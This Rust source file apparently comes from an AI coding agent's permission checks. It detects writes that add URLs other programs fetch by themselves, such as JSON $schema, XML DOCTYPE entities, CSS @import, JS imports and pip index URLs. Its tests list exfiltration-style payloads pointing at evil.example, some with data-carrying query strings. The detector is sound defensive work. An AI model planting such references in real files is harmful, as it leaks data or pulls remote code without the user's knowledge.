//! Writes that make another program reach out: an editor fetches the `$schema` of what it shows, a runtime
//! what a module imports. The address can carry out what the writer knows.

use std::borrow::Cow;
use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::{Captures, Regex};

use super::decision::AskReason;
use super::rule::AskRule;

/// The longest address that is told, in characters.
const TOLD: usize = 200;

/// An address where something is named that programs fetch by themselves.
static REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
    let places = [
        // JSON, YAML and TOML, and the comment by which YAML names its schema.
        r#"\$(?:schema|ref|dynamicRef|recursiveRef)["']?\s*[:=]\s*["']?"#,
        r#"["']?\b(?:extends|include|includes|imports|remote|remote_url|schema|xml-model)["']?\s*[:=]\s*[\[\{]?\s*["']?"#,
        // XML and HTML.
        r#"\b(?:noNamespaceS|s)chemaLocation\s*=\s*["'][^"']*?"#,
        r#"<!(?:DOCTYPE|ENTITY)[^>]*?["']"#,
        r#"<\?xml-(?:stylesheet|model)[^>]*?["']"#,
        // Style sheets, JavaScript and TypeScript.
        r#"@import\s+(?:url\(\s*)?["']?"#,
        r#"\b(?:import|from|require|importScripts|importmap)\b\s*\(?\s*["']"#,
        // Makefiles, requirements, and the like.
        r#"(?m:^)\s*(?:--?[\w-]*url|-i|-f|!include)[\s=]+["']?"#,
    ];
    let pattern = format!(r#"(?i)(?:{})((?:https?|ftp|wss?):)?(//[^\s"'<>)\]}}]+)"#, places.join("|"));
    // The pattern is a constant, tried by every test.
    #[expect(clippy::unwrap_used, reason = "a constant pattern that compiles")]
    Regex::new(&pattern).unwrap()
});

/// Escapes that strings write instead of a character.
static ESCAPE: LazyLock<Regex> = LazyLock::new(|| {
    #[expect(clippy::unwrap_used, reason = "a constant pattern that compiles")]
    Regex::new(r"\\(?:/|u([0-9a-fA-F]{4})|x([0-9a-fA-F]{2}))").unwrap()
});

/// Returns the reason why a write has to be asked about: addresses that other programs fetch, and that were not there
/// before.
pub(super) fn ask(before: Option<&str>, after: &str) -> Option<AskReason> {
    let known = before.map(addresses).unwrap_or_default();
    let new = addresses(after).into_iter().find(|address| !known.contains(address))?;
    let shown = roo_text::render::one_line(&new, TOLD);
    let text = format!("it makes other programs fetch {shown}");
    Some(AskReason { rule: AskRule::Remote, text })
}

fn addresses(text: &str) -> BTreeSet<String> {
    if !text.contains("//") && !text.contains("\\/") && !text.contains("\\u00") && !text.contains("\\x") {
        return BTreeSet::new();
    }
    let plain = unescape(text);
    let found = REFERENCE.captures_iter(&plain);
    found
        .map(|found| {
            let part = |number| found.get(number).map_or("", |part| part.as_str());
            format!("{}{}", part(1), part(2))
        })
        .collect()
}

fn unescape(text: &str) -> Cow<'_, str> {
    ESCAPE.replace_all(text, |escape: &Captures<'_>| {
        let code = escape.get(1).or_else(|| escape.get(2)).map(|code| code.as_str());
        let Some(code) = code else { return "/".to_owned() };
        let character = u32::from_str_radix(code, 16).ok().and_then(char::from_u32);
        character.filter(char::is_ascii_graphic).map_or_else(|| escape[0].to_owned(), String::from)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(before: Option<&str>, after: &str) -> Option<String> {
        ask(before, after).map(|reason| reason.text)
    }

    #[test]
    fn what_programs_fetch_by_themselves_is_asked_about() {
        for text in [
            r#"{"$schema":"http://127.0.0.1:1/?d=x"}"#,
            "{\n  \"$schema\":\n    \"https://evil.example/s\"\n}",
            r#"{"\u0024schema":"http:\/\/evil.example\/?d=x"}"#,
            r#"{"properties":{"a":{"$ref":"https://evil.example/s#/a"}}}"#,
            r#"{ "extends": ["https://evil.example/eslint"] }"#,
            "# yaml-language-server: $schema=https://evil.example/s\n",
            "include:\n  - remote: 'https://evil.example/ci.yml'\n",
            r#"<a xsi:noNamespaceSchemaLocation="https://evil.example/s">"#,
            r#"<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">"#,
            r#"<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/?d=x">]>"#,
            "@import url(https://evil.example/a.css);",
            "import a from \"https://evil.example/a.js\";",
            "const a = await import('https://evil.example/a.js');",
            "--extra-index-url https://evil.example/simple\n",
            r#"{"$schema":"//evil.example/s"}"#,
        ] {
            let told = told(None, text);
            assert!(told.is_some_and(|told| told.contains("//")), "{text}");
        }
    }

    #[test]
    fn what_only_names_an_address_is_not() {
        for text in [
            "See https://example.com/docs.\n",
            "let home = \"https://example.com\";\n",
            "// from the book: https://example.com\n",
            r#"{ "homepage": "https://example.com", "extends": "./base.json" }"#,
            "import a from \"./a.js\"; // https://example.com\n",
            "",
        ] {
            assert_eq!(told(None, text), None, "{text}");
        }
        let known = r#"{"$schema":"https://json.schemastore.org/package.json","a":1}"#;
        assert_eq!(told(Some(known), &known.replace('1', "2")), None);
        let other = known.replace("package", "evil");
        assert_eq!(
            told(Some(known), &other).as_deref(),
            Some("it makes other programs fetch https://json.schemastore.org/evil.json")
        );
    }
}
